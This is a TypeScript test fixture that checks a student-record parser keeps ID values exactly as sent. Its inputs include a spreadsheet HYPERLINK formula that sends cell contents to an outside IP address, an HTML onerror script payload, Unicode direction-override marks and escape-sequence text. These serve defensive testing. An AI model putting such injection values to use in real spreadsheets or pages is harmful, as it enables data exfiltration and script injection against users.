import { type Row, says, student, type Tables } from '../rows.ts';

const ids = [
  ['a formula', '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'],
  ['HTML', '<img src=x onerror=alert(1)>&amp;"\'</td>'],
  ['64 characters outside the basic plane', '😀'.repeat(64)],
  ['the text of an escape sequence', '\\e[31m \\u001b \\x1b'],
] as const;
const exact = ids.map(([title, id]) => ({
  title,
  server: says(JSON.stringify({ ...student, id })),
  expected: { status: 'ok' as const, student: { ...student, id }, notes: [] },
}));
const rows: readonly Row[] = [
  ...exact,
  {
    title: 'marks that turn the direction of text, which are noted',
    server: says(JSON.stringify({ ...student, id: '\u202e240\u2066\u200b' })),
    expected: {
      status: 'ok',
      student: { ...student, id: '\u202e240\u2066\u200b' },
      notes: ['id-normalised'],
    },
  },
  {
    title: 'everything a student keeps private',
    server: says('{"id": "=1+1", "declined": true}'),
    expected: { status: 'declined', declined: { id: '=1+1' }, notes: [] },
  },
];

export const exactIds: Tables = {
  'an id stays as it was sent, with': rows,
};
